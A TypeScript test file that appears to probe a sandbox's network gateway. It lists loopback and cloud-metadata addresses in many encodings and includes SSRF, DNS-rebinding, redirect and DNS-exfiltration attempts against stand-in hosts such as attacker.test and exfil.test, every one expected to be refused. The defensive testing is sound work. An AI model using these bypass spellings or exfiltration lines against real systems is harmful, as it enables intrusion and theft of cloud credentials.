import { wrongIn, type Attack } from '../../attack.ts';
import { fromInside } from '../../rig/from-inside.ts';
import { CANARY_SONG } from '../../rig/canary.ts';
import { PUBLIC_ADDRESS, PUBLIC_GREETING } from '../../rig/internet.ts';

const area = 'network';

/** 127.0.0.1 as resolvers, URL parsers and C libraries understand it. */
const LOOPBACKS = [
  '127.0.0.1',
  '127.1',
  '127.0.0.2',
  '0.0.0.0',
  '0',
  '2130706433',
  '0x7f000001',
  '0x7f.1',
  '0177.0.0.1',
  '017700000001',
  'localhost',
  'LOCALHOST',
  'localhost.',
  'localhost.localdomain',
  'ip6-localhost',
  '[::1]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[0:0:0:0:0:ffff:127.0.0.1]',
  '[64:ff9b::7f00:1]',
  '[2002:7f00:1::]',
  '127.0.0.1.',
];
/** Where clouds tell a machine who it is, and hand out its keys. */
const METADATA = [
  '169.254.169.254',
  '169.254.169.253',
  '169.254.170.2',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '[::ffff:169.254.169.254]',
  '[fd00:ec2::254]',
  '[fe80::a9fe:a9fe]',
  'metadata.google.internal',
  'metadata',
  'instance-data',
  '100.100.100.200',
  '168.63.129.16',
  '192.0.0.192',
];

/** Asks for each by CONNECT and by a plain request, and prints what came. */
const ask = (hosts: string[], port: number): string => `weapon <<'PY'
from weapon import *
for host in ${JSON.stringify(hosts)}:
    for request in (f"CONNECT {host}:${port} HTTP/1.1\\r\\nHost: {host}:${port}\\r\\n\\r\\n", f"GET http://{host}:${port}/stolen HTTP/1.1\\r\\nHost: {host}:${port}\\r\\nConnection: close\\r\\n\\r\\n"):
        answer = at_gateway(request.encode())
        status = answer.split(" ")[1:2]
        if status not in (["403"], ["400"], ["502"]) or "${CANARY_SONG}" in answer:
            hole(f"{host}: {answer[:200]!r}")
PY`;

/** Where a sandbox may not go, however it asks. */
export const ADDRESSES: Attack[] = [
  fromInside({
    name: 'the host’s own services are out of reach, by whatever way and spelling',
    area,
    must: 'A server on the host’s loopback, bridge and interface hears nothing of the sandbox.',
    script: ({ canary }) => `
      for address in ${canary.addresses.join(' ')} 127.0.0.1 host.docker.internal 172.17.0.1; do
        denied "directly $address" curl -s -m 2 --noproxy '*' "http://$address:${canary.port}/stolen"
        for proxy in http://127.0.0.1:3128 "$http_proxy" "$HTTPS_PROXY"; do
          if curl -s -m 5 --proxy "$proxy" "http://$address:${canary.port}/stolen" | grep ${CANARY_SONG}; then hole "$address by $proxy"; fi
          denied "tunnel to $address" curl -s -m 5 --proxytunnel --proxy "$proxy" "http://$address:${canary.port}/stolen"
        done
      done
      ${ask([...LOOPBACKS, ...canary.addresses], canary.port)}`,
    holds: (_outcome, { canary }) =>
      wrongIn([canary.seen().length === 0, `the canary saw ${canary.seen().join('; ')}`]),
  }),
  fromInside({
    name: 'the metadata service is refused in every notation',
    area,
    must: 'No spelling of the clouds’ addresses gets further than the gateway.',
    script: ask(METADATA, 80),
    holds: async (_outcome, { internet }) => {
      const dialled = (await internet.journal()).filter(
        ({ what, of }) => what === 'dialled' && /169\.254|168\.63|100\.100/.test(of),
      );
      return wrongIn([dialled.length === 0, `dialled: ${JSON.stringify(dialled)}`]);
    },
  }),
  fromInside({
    name: 'the repo host’s address opens the repo host’s port and no other',
    area,
    must: 'API, Redis and everything else beside it stay shut.',
    script: ({ stack }) => ask(['127.0.0.1'], Number(new URL(stack.apiUrl).port)),
  }),
  fromInside({
    name: 'there is no interface but loopback and no route anywhere',
    area,
    must: 'UDP, ping and TCP past the gateway meet an unreachable network.',
    script: `
      [ "$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ')" = lo ] || hole "interfaces: $(cat /proc/net/dev)"
      [ -z "$(tail -n +2 /proc/net/route)" ] || hole "routes: $(cat /proc/net/route)"
      weapon <<'PY'
from weapon import *
for address in ("10.0.0.1", "172.17.0.1", "192.168.0.1", "169.254.169.254", "${PUBLIC_ADDRESS}", "224.0.0.1", "255.255.255.255"):
    denied(f"udp {address}", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (address, 53)))
    denied(f"tcp {address}", lambda: socket.create_connection((address, 80), timeout=2))
    denied(f"ping {address}", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", (address, 0)))
for address in ("2606:4700::1111", "fe80::1%lo", "ff02::1"):
    denied(f"udp {address}", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", (address, 53)))
PY`,
  }),
  fromInside({
    name: 'an allowed name that leads to a private address is refused',
    area,
    must: 'The gateway looks at every address behind the name, and one private one is enough.',
    request: {
      network: {
        allow: [
          'loop.attacker.test:80',
          'mixed.attacker.test:80',
          'mapped.attacker.test:80',
          'cloud.attacker.test:80',
          'six.attacker.test:80',
        ],
      },
    },
    script: async ({ internet, canary }) => {
      await internet.serve('loop.attacker.test', ['127.0.0.1']);
      await internet.serve('mixed.attacker.test', [PUBLIC_ADDRESS, '10.0.0.5']);
      await internet.serve('mapped.attacker.test', ['::ffff:127.0.0.1']);
      await internet.serve('cloud.attacker.test', ['169.254.169.254']);
      await internet.serve('six.attacker.test', ['::1']);
      return `
        ${ask(['loop.attacker.test', 'mixed.attacker.test', 'mapped.attacker.test', 'cloud.attacker.test', 'six.attacker.test'], 80)}
        ${ask(['loop.attacker.test'], canary.port)}`;
    },
    holds: async (_outcome, { internet }) => {
      const asked = (await internet.journal()).filter(
        ({ what, of }) => what === 'asked' && of === 'loop.attacker.test',
      );
      return wrongIn([
        asked.length > 0,
        'the name was never looked up, so its address was not what it was refused for',
      ]);
    },
  }),
  fromInside({
    name: 'a name that changes its answer gains nothing',
    area,
    must: 'Each connection goes to an address that was checked for it; once the name leads inside, it is refused.',
    request: { network: { allow: ['rebind.attacker.test:80'] } },
    script: async ({ internet }) => {
      await internet.serve('rebind.attacker.test', [PUBLIC_ADDRESS], ['127.0.0.1']);
      return `
        curl -s -m 5 --proxy http://127.0.0.1:3128 http://rebind.attacker.test/ | grep -q '${PUBLIC_GREETING}' || hole "the first one did not come through"
        weapon <<'PY'
from weapon import *
# An answer that was checked may be remembered for a while; the one that comes after it is checked anew.
until = time.monotonic() + 30
def status():
    return at_gateway(b"GET http://rebind.attacker.test/ HTTP/1.1\\r\\nHost: rebind.attacker.test\\r\\nConnection: close\\r\\n\\r\\n").split(" ")[1:2]
while status() != ["403"]:
    if time.monotonic() > until:
        hole("the name that leads inside is never refused")
        break
    time.sleep(0.5)
PY`;
    },
    holds: async (_outcome, { internet }) => {
      const inside = (await internet.journal()).filter(({ what, of }) => what === 'dialled' && of === '127.0.0.1:80');
      return wrongIn([inside.length === 0, 'the second address was dialled']);
    },
  }),
  fromInside({
    name: 'an allowed host cannot send a client on to the inside',
    area,
    must: 'A redirect to a private address is a new request, and is refused as such.',
    request: { network: { allow: ['redirect.attacker.test:80'] } },
    script: async ({ internet, canary }) => {
      await internet.serve('redirect.attacker.test', [PUBLIC_ADDRESS]);
      return `
        for target in http://127.0.0.1:${canary.port}/ http://169.254.169.254/latest/meta-data/ http://localhost:${canary.port}/; do
          answer=$(curl -s -L -m 5 --noproxy '' --proxy http://127.0.0.1:3128 "http://redirect.attacker.test/?redirect=$target")
          case "$answer" in *${CANARY_SONG}*) hole "$target" ;; *network.allow*|*public*) echo refused ;; *) hole "an answer that is none: $answer" ;; esac
        done`;
    },
  }),
  fromInside({
    name: 'no name is looked up that is not allowed, so none can carry a secret out',
    area,
    must: 'The resolver of the gateway hears of no such name, by DNS, CONNECT or a plain request.',
    request: { network: { allow: ['api.exfil.test:80', '*.below.exfil.test:80'] } },
    script: `
      for name in stolen-1.exfil.test stolen-2.api.exfil.test stolen-3.example.com "stolen-4.$DAYPASS_SESSION_ID.test"; do
        timeout 5 getent hosts "$name" > /dev/null
        timeout 5 node -e "require('dns').resolve('$name', () => {}); require('dns').resolveTxt('$name', () => {})" > /dev/null 2>&1
        curl -s -o /dev/null -m 5 --proxy http://127.0.0.1:3128 "http://$name/"
        curl -s -o /dev/null -m 5 --proxy http://127.0.0.1:3128 "https://$name/"
        curl -s -o /dev/null -m 5 "http://$name/"
        git ls-remote "http://$name/x.git" > /dev/null 2>&1
      done
      true`,
    holds: async (_outcome, { internet }) => {
      const asked = (await internet.journal()).filter(({ what, of }) => what === 'asked' && of.includes('stolen'));
      return wrongIn([asked.length === 0, `looked up: ${asked.map(({ of }) => of).join()}`]);
    },
  }),
  fromInside({
    name: 'an allowed host is allowed at its port alone, and its parents and children are not',
    area,
    must: 'Exact names, `*.` only below, ports as written; and what is allowed does come through.',
    request: { network: { allow: ['exact.attacker.test:80', '*.wild.attacker.test:80'] } },
    script: async ({ internet }) => {
      for (const name of ['exact', 'a.exact', 'wild', 'a.wild', 'a.b.wild', 'notwild']) {
        await internet.serve(`${name}.attacker.test`, [PUBLIC_ADDRESS]);
      }
      return `
        come() { curl -s -m 5 --proxy http://127.0.0.1:3128 "http://$1/" | grep -q '${PUBLIC_GREETING}'; }
        come exact.attacker.test || hole "what is allowed is shut"
        come a.b.wild.attacker.test || hole "below the wildcard is shut"
        for host in a.exact.attacker.test wild.attacker.test xwild.attacker.test notwild.attacker.test attacker.test exact.attacker.test:8080 \\
                    exact.attacker.test:22 exact.attacker.test:25 exact.attacker.test.evil.test exact.attacker.testx ${PUBLIC_ADDRESS}; do
          denied "$host" come "$host"
        done`;
    },
  }),
];
